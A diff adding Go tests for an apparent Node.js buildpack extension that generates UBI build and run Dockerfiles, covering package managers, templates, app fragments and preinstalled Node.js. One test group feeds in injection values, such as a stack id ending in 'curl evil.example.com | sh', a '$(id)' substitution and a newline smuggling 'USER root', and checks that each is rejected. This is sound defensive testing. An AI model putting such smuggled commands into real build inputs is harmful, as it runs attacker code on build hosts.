+			distro = structs.Distro{Name: "rhel", Version: "10.0"}
+
+			generateResult, err = newGenerate(structs.BuildImage{Distro: distro, PackageManager: "dnf5"})(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "22.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(ContainSubstring("RUN dnf5 --setopt=install_weak_deps=False --setopt=tsflags=nodocs install -y make gcc gcc-c++ libatomic_ops git openssl-devel nodejs npm nss_wrapper-libs which python3 nodejs-devel && dnf5 clean all"))
+			Expect(buf.String()).To(ContainSubstring("ENV npm_config_nodedir=/usr"))
+		})
+
+		it("fails when the package manager can not enable the module stream", func() {
+			distro = structs.Distro{Name: "rhel", Version: "9.4"}
+
+			_, err = newGenerate(structs.BuildImage{Distro: distro, PackageManager: "dnf5"})(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "20.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi",
+			})
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(Equal("the dnf5 package manager of the build image can not enable the nodejs:20 module stream"))
+		})
+
+		it("resolves Node.js from the target when the platform exposes no stack", func() {
+			distro = structs.Distro{Name: "rhel", Version: "10.0"}
+
+			generateResult, err = newGenerate(structs.BuildImage{Distro: distro})(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "24.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(HaveSuffix(`RUN echo "CNB_TARGET: linux/amd64 rhel 10.0"`))
+
+			buf = new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(HavePrefix("FROM registry.example.com/run-nodejs-24-ubi10\n"))
+		})
+
+		it("fails when the UBI version is not supported", func() {
+			distro = structs.Distro{Name: "rhel", Version: "7.9"}
+
+			_, err = generateWithNodeVersion("20.*")
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(Equal("UBI 7 is not supported, supported versions are: 8, 9, 10"))
+		})
+	}, spec.Sequential())
+
+	context("When the builder provides Dockerfile templates", func() {
+
+		var templatesDir string
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18"}, []bool{false, true}, false), structs.BuildImage{})
+
+			templatesDir = filepath.Join(imagesJsonTmpDir, "ubi-nodejs-extension")
+			Expect(os.MkdirAll(templatesDir, os.ModePerm)).To(Succeed())
+
+		})
+
+		generateContext := func() packit.GenerateContext {
+			return packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			}
+		}
+
+		it("renders the templates found next to images.json with the same props", func() {
+			Expect(os.WriteFile(filepath.Join(templatesDir, "build.Dockerfile"), []byte(`ARG base_image
+FROM ${base_image}
+USER root
+RUN {{.PACKAGE_MANAGER.EnableModule}} nodejs:{{.NODEJS_VERSION}} && {{.PACKAGE_MANAGER.Install}} {{.PACKAGES}}
+RUN touch /etc/site-specific
+USER {{.CNB_USER_ID}}:{{.CNB_GROUP_ID}}
+`), 0644)).To(Succeed())
+
+			generateResult, err = generate(generateContext())
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(Equal(`ARG base_image
+FROM ${base_image}
+USER root
+RUN microdnf -y module enable nodejs:18 && microdnf --setopt=install_weak_deps=0 --setopt=tsflags=nodocs install -y ` + ubinodejsextension.PACKAGES + ` nodejs-devel
+RUN touch /etc/site-specific
+USER 1002:1000
+`))
+			Expect(buffer.String()).To(ContainSubstring("Using the build Dockerfile template " + filepath.Join(templatesDir, "build.Dockerfile")))
+
+			buf = new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(HavePrefix("FROM paketocommunity/run-nodejs-18-ubi-base\n"))
+		})
+
+		it("fails when the build template does not switch back to the CNB user", func() {
+			Expect(os.WriteFile(filepath.Join(templatesDir, "build.Dockerfile"), []byte(`ARG base_image
+FROM ${base_image}
+USER root
+RUN {{.PACKAGE_MANAGER.Install}} {{.PACKAGES}}
+`), 0644)).To(Succeed())
+
+			_, err = generate(generateContext())
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(Equal("invalid build Dockerfile template " + filepath.Join(templatesDir, "build.Dockerfile") + ": build Dockerfile must end as the CNB user 1002:1000, not root"))
+		})
+
+		it("fails when the run template has no FROM", func() {
+			Expect(os.WriteFile(filepath.Join(templatesDir, "run.Dockerfile"), []byte("LABEL source={{.Source}}\n"), 0644)).To(Succeed())
+
+			_, err = generate(generateContext())
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(Equal("invalid run Dockerfile template " + filepath.Join(templatesDir, "run.Dockerfile") + ": run Dockerfile must start with a FROM instruction"))
+		})
+
+		it("fails when the template uses unknown props", func() {
+			Expect(os.WriteFile(filepath.Join(templatesDir, "run.Dockerfile"), []byte("FROM {{.RUN_IMAGE}}\n"), 0644)).To(Succeed())
+
+			_, err = generate(generateContext())
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(ContainSubstring("failed to render the run Dockerfile template " + filepath.Join(templatesDir, "run.Dockerfile")))
+		})
+	}, spec.Sequential())
+
+	context("When the app provides Dockerfile fragments", func() {
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18"}, []bool{false, true}, false), structs.BuildImage{})
+
+			Expect(os.MkdirAll(filepath.Join(workingDir, ".ubi", "build.Dockerfile.d"), os.ModePerm)).To(Succeed())
+			Expect(os.MkdirAll(filepath.Join(workingDir, ".ubi", "run.Dockerfile.d"), os.ModePerm)).To(Succeed())
+
+		})
+
+		generateContext := func() packit.GenerateContext {
+			return packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			}
+		}
+
+		it("appends the fragments to the generated Dockerfiles", func() {
+			Expect(os.WriteFile(filepath.Join(workingDir, ".ubi", "build.Dockerfile.d", "repo.Dockerfile"), []byte("USER root\nRUN touch /etc/yum.repos.d/app.repo\nUSER 1002:1000\n"), 0644)).To(Succeed())
+			Expect(os.WriteFile(filepath.Join(workingDir, ".ubi", "run.Dockerfile.d", "env.Dockerfile"), []byte("ENV APP_MODE=production\n"), 0644)).To(Succeed())
+
+			generateResult, err = generate(generateContext())
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(HaveSuffix(`RUN echo "CNB_STACK_ID: io.buildpacks.stacks.ubi8"
+
+# .ubi/build.Dockerfile.d/repo.Dockerfile
+USER root
+RUN touch /etc/yum.repos.d/app.repo
+USER 1002:1000`))
+
+			buf = new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(HaveSuffix("\n\n# .ubi/run.Dockerfile.d/env.Dockerfile\nENV APP_MODE=production"))
+
+			Expect(buffer.String()).To(ContainSubstring("Applying the build Dockerfile fragments of the app"))
+			Expect(buffer.String()).To(ContainSubstring(".ubi/build.Dockerfile.d/repo.Dockerfile"))
+			Expect(buffer.String()).To(ContainSubstring("Applying the run Dockerfile fragments of the app"))
+		})
+
+		it("fails when a fragment breaks the policy", func() {
+			Expect(os.WriteFile(filepath.Join(workingDir, ".ubi", "run.Dockerfile.d", "base.Dockerfile"), []byte("FROM registry.example.com/other\n"), 0644)).To(Succeed())
+
+			_, err = generate(generateContext())
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(Equal("invalid Dockerfile fragment .ubi/run.Dockerfile.d/base.Dockerfile: fragment can not use a FROM instruction"))
+		})
+	}, spec.Sequential())
+
+	context("When hostile values reach the generated Dockerfiles", func() {
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18"}, []bool{false, true}, false), structs.BuildImage{})
+		})
+
+		generateContext := func(stack string) packit.GenerateContext {
+			return packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: stack,
+			}
+		}
+
+		it("fails on a run image override injecting instructions", func() {
+			t.Setenv("BP_UBI_RUN_IMAGE_OVERRIDE", "registry.example.com/run\nUSER root")
+
+			_, err = generate(generateContext("io.buildpacks.stacks.ubi8"))
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(HavePrefix("invalid run image set by BP_UBI_RUN_IMAGE_OVERRIDE"))
+		})
+
+		it("fails on a stack id escaping the echo command", func() {
+			_, err = generate(generateContext(`ubi8" && curl evil.example.com | sh && echo "`))
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(ContainSubstring("contains characters which are not allowed"))
+		})
+
+		it("fails on a target architecture carrying a command substitution", func() {
+			t.Setenv("CNB_TARGET_ARCH", "$(id)")
+			Expect(os.WriteFile(imagesJsonPath, []byte(`{"images": [{ "name": "nodejs-18", "is_default_run_image": true }]}`), 0644)).To(Succeed())
+
+			_, err = generate(generateContext(""))
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(ContainSubstring(`target "linux/$(id)" contains characters which are not allowed`))
+		})
+
+		it("fails on a native modules mapping injecting commands", func() {
+			mappingPath := filepath.Join(t.TempDir(), "native-modules.json")
+			Expect(os.WriteFile(mappingPath, []byte(`{"canvas": {"build": ["cairo-devel && curl evil.example.com | sh"]}}`), 0644)).To(Succeed())
+			t.Setenv("BP_UBI_NATIVE_MODULES_MAPPING", mappingPath)
+
+			_, err = generate(generateContext("io.buildpacks.stacks.ubi8"))
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(ContainSubstring("invalid system packages for canvas"))
+		})
+	}, spec.Sequential())
+
+	context("When Node.js is only required at build time", func() {
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18"}, []bool{false, true}, false), structs.BuildImage{})
+		})
+
+		buildOnlyContext := func() packit.GenerateContext {
+			return packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION", "build": true},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			}
+		}
+
+		it("keeps the run image of the builder", func() {
+			generateResult, err = generate(buildOnlyContext())
+			Expect(err).NotTo(HaveOccurred())
+
+			Expect(generateResult.BuildDockerfile).NotTo(BeNil())
+			Expect(generateResult.RunDockerfile).To(BeNil())
+			Expect(buffer.String()).To(ContainSubstring("Keeping the run image of the builder as Node.js is only required at build time"))
+		})
+
+		it("ignores the run Dockerfile fragments of the app with a warning", func() {
+			Expect(os.MkdirAll(filepath.Join(workingDir, ".ubi", "run.Dockerfile.d"), 0755)).To(Succeed())
+			Expect(os.WriteFile(filepath.Join(workingDir, ".ubi", "run.Dockerfile.d", "env.Dockerfile"), []byte("ENV APP_MODE=production\n"), 0644)).To(Succeed())
+			outputDir := t.TempDir()
+			t.Setenv("CNB_OUTPUT_DIR", outputDir)
+
+			generateResult, err = generate(buildOnlyContext())
+			Expect(err).NotTo(HaveOccurred())
+
+			Expect(generateResult.RunDockerfile).To(BeNil())
+			Expect(buffer.String()).To(ContainSubstring("WARNING: Ignoring the run Dockerfile fragments of the app as the run image of the builder is kept"))
+			Expect(buffer.String()).NotTo(ContainSubstring("Applying the run Dockerfile fragments of the app"))
+
+			var generateReport structs.GenerateReport
+			_, err = toml.DecodeFile(filepath.Join(outputDir, "generate-report.toml"), &generateReport)
+			Expect(err).NotTo(HaveOccurred())
+			Expect(generateReport.RunFragments).To(BeEmpty())
+		})
+
+		it("switches to the plain run image set by BP_UBI_BUILD_ONLY_RUN_IMAGE", func() {
+			t.Setenv("BP_UBI_BUILD_ONLY_RUN_IMAGE", "registry.access.redhat.com/ubi8/ubi-minimal")
+			t.Setenv("BP_UBI_NODE_FIPS", "true")
+
+			generateResult, err = generate(buildOnlyContext())
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(HavePrefix("FROM registry.access.redhat.com/ubi8/ubi-minimal\n"))
+			Expect(buf.String()).NotTo(ContainSubstring("io.paketo.ubi-nodejs.version"))
+			Expect(buf.String()).NotTo(ContainSubstring("update-crypto-policies"))
+		})
+
+		it("still uses the run image set by BP_UBI_RUN_IMAGE_OVERRIDE", func() {
+			t.Setenv("BP_UBI_RUN_IMAGE_OVERRIDE", "registry.example.com/static-site-run")
+
+			generateResult, err = generate(buildOnlyContext())
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(HavePrefix("FROM registry.example.com/static-site-run\n"))
+		})
+	}, spec.Sequential())
+
+	context("When the build image already provides Node.js", func() {
+
+		var binDir string
+
+		it.Before(func() {
+			binDir = t.TempDir()
+
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18"}, []bool{false, true}, false), structs.BuildImage{})
+		})
+
+		// The fake binaries record each run on a probes file of the bin directory
+		generateWithInstalled := func(nodeVersion string, packages []string) (packit.GenerateResult, error) {
+			Expect(os.WriteFile(filepath.Join(binDir, "node"), []byte(fmt.Sprintf("#!/bin/sh\necho node >> %s\necho v%s\n", filepath.Join(binDir, "probes"), nodeVersion)), 0755)).To(Succeed())
+			Expect(os.WriteFile(filepath.Join(binDir, "rpm"), []byte(fmt.Sprintf("#!/bin/sh\necho rpm >> %s\necho '%s'\n", filepath.Join(binDir, "probes"), strings.Join(packages, " "))), 0755)).To(Succeed())
+
+			return newGenerate(structs.BuildImage{NodeBinary: filepath.Join(binDir, "node"), RpmBinary: filepath.Join(binDir, "rpm")})(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+		}
+
+		readProbes := func() string {
+			probes, _ := os.ReadFile(filepath.Join(binDir, "probes"))
+			return string(probes)
+		}
+
+		it("returns no build Dockerfile when all the requirements are met", func() {
+			Expect(os.WriteFile(filepath.Join(workingDir, "package-lock.json"), []byte(`{"lockfileVersion": 3, "packages": {"": {"name": "app"}}}`), 0644)).To(Succeed())
+
+			generateResult, err = generateWithInstalled("18.20.4", append(strings.Fields(ubinodejsextension.PACKAGES), "bash"))
+			Expect(err).NotTo(HaveOccurred())
+
+			Expect(generateResult.BuildDockerfile).To(BeNil())
+			Expect(generateResult.RunDockerfile).NotTo(BeNil())
+			Expect(buffer.String()).To(ContainSubstring("Node.js 18.20.4 is already installed on the build image"))
+			Expect(buffer.String()).To(ContainSubstring("Skipping the extension of the build image as it already provides all the requirements"))
+		})
+
+		it("only installs the missing packages", func() {
+			generateResult, err = generateWithInstalled("18.20.4", []string{"make", "gcc", "gcc-c++", "libatomic_ops", "git", "openssl-devel", "nodejs", "npm", "nodejs-nodemon", "nss_wrapper"})
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).NotTo(ContainSubstring("module enable"))
+			Expect(buf.String()).To(ContainSubstring("install -y which python3 nodejs-devel && microdnf clean all"))
+		})
+
+		it("installs Node.js without listing the rpm packages when the build image provides another major version", func() {
+			generateResult, err = generateWithInstalled("16.20.2", strings.Fields(ubinodejsextension.PACKAGES))
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(ContainSubstring("RUN microdnf -y module enable nodejs:18"))
+			Expect(buf.String()).To(ContainSubstring("install -y " + ubinodejsextension.PACKAGES))
+			Expect(readProbes()).To(Equal("node\n"))
+		})
+
+		it("does not probe the build image when a module profile is requested", func() {
+			t.Setenv("BP_UBI_NODE_PROFILE", "minimal")
+
+			_, err = generateWithInstalled("18.20.4", strings.Fields(ubinodejsextension.PACKAGES))
+			Expect(err).NotTo(HaveOccurred())
+			Expect(readProbes()).To(BeEmpty())
+		})
+	}, spec.Sequential())
 }